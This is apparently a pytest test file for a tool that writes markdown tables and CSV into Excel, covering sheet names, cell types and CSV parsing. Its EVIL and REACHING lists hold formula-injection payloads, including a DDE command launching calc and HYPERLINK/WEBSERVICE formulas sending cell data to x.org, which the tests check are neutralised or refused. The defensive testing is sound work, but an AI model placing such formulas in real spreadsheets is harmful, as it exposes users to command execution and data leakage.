from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from agent.api import ToolRetry
from plugins.documents.blocks import parse
from plugins.documents.to_excel import Sheet, sheet_of_csv, sheets_of, write_excel


def written(path: Path, *sheets: Sheet, formulas: bool = False) -> Any:
    write_excel(sheets, path / "a.xlsx", formulas)
    return openpyxl.load_workbook(path / "a.xlsx")


def test_each_table_becomes_a_sheet_named_by_its_heading(tmp_path: Path) -> None:
    text = "# Sales: [2026]\n\n|A|B|\n|---|---|\n|1|**x**|\n\ntext\n\n# Sales: [2026]\n\n|C|\n|---|\n\n|D|\n|---|\n"
    book = written(tmp_path, *sheets_of(parse(text)))
    assert [sheet.title for sheet in book] == ["Sales   2026", "Sales   20261", "Sales   20262"]
    first = book.worksheets[0]
    assert [[cell.value for cell in row] for row in first.rows] == [["A", "B"], [1, "x"]]
    assert first.freeze_panes == "A2" and first["A1"].font.bold and not first["A2"].font.bold
    names = [sheet.title for sheet in written(tmp_path, *[Sheet("T" * 99, [["a"]])] * 12, Sheet("", [["a"]]))]
    assert len({name.lower() for name in names}) == 13 and max(map(len, names)) <= 31  # what Excel allows
    with pytest.raises(ToolRetry, match="no table"):
        sheets_of(parse("text"))


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("12", 12), ("-3.50", -3.5), ("0.1", 0.1), ("007", "007"), ("1,5", "1,5"), ("1e5", "1e5"), ("12%", "12%"),
        ("1234567890123456789", "1234567890123456789"), ("+49 170", "+49 170"), ("2026-12-01", datetime(2026, 12, 1)),
        ("2026-12-01 09:30", datetime(2026, 12, 1, 9, 30)), ("2026-13-01", "2026-13-01"), ("TRUE", True), ("", None),
        ("#N/A", "#N/A"), ("a\x00b\ud800", "ab"), ("@x", "@x"),
    ],
)  # fmt: skip
def test_a_cell_is_what_it_surely_is(tmp_path: Path, text: str, value: Any) -> None:
    cell = written(tmp_path, Sheet("t", [["head"], [text]])).worksheets[0]["A2"]
    assert (cell.value, type(cell.value)) == (value, type(value)) and cell.data_type != "e"


EVIL = ["=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.org/?"&A1)', '=WEBSERVICE("http://x.org")', "=A1 "]


def test_formulas_of_a_text_stay_text(tmp_path: Path) -> None:
    notes = write_excel([Sheet("t", [["=A1"], *([text] for text in EVIL)])], tmp_path / "a.xlsx")
    cells = [cell for row in openpyxl.load_workbook(tmp_path / "a.xlsx").worksheets[0].rows for cell in row]
    assert [cell.data_type for cell in cells] == ["s"] * 6
    assert notes == ("Cells that begin with = are text (6): formulas are written only when asked for.",)


def test_formulas_that_are_asked_for_are_written_if_they_stay_in_the_file(tmp_path: Path) -> None:
    good = ["=SUM(A1:A2)", '=IF(B2>3,"yes (x|y)","no")', "=A1*1.19", '=ROUND(AVERAGE($A$1:A9),2)&"%"']
    sheet = written(tmp_path, Sheet("t", [["head"], *([text] for text in good)]), formulas=True).worksheets[0]
    assert [cell.value for [cell] in sheet.iter_rows(min_row=2)] == good
    assert all(cell.data_type == "f" for [cell] in sheet.iter_rows(min_row=2))


REACHING = [
    *EVIL[1:4],
    "=[other.xlsx]S!A1",
    "='http://x.org/[a]S'!A1",
    '=\'a"\'!A1&WEBSERVICE("x")',
    "=IMAGE(A1)",
    "=_xlfn.FILTERXML(A1,B1)",
    "=Call (A1)",
]


@pytest.mark.parametrize("text", REACHING)
def test_formulas_that_reach_out_are_never_written(tmp_path: Path, text: str) -> None:
    with pytest.raises(ToolRetry, match="is not written"):
        write_excel([Sheet("t", [["head"], [text]])], tmp_path / "a.xlsx", formulas=True)


@pytest.mark.parametrize("text", ['a,b\n1,"x,y"\n', "a;b\n1;x,y\n", "\ufeffa\tb\n1\tx,y\n"])
def test_csv_is_read_whatever_parts_it(text: str) -> None:
    assert sheet_of_csv(text, "t") == Sheet("t", [["a", "b"], ["1", "x,y"]])


def test_odd_csv_is_read_or_refused_in_words() -> None:
    assert sheet_of_csv("", "t").rows == [] and sheet_of_csv("one", "t").rows == [["one"]]
    with pytest.raises(ToolRetry, match="cannot be read"):
        sheet_of_csv('a,b\n"' + "x" * 200_000, "t")


def test_columns_are_as_wide_as_what_is_in_them(tmp_path: Path) -> None:
    sheet = written(tmp_path, Sheet("t", [["a", "b" * 30], ["x" * 500]])).worksheets[0]
    assert [sheet.column_dimensions[name].width for name in "AB"] == [60, 32]
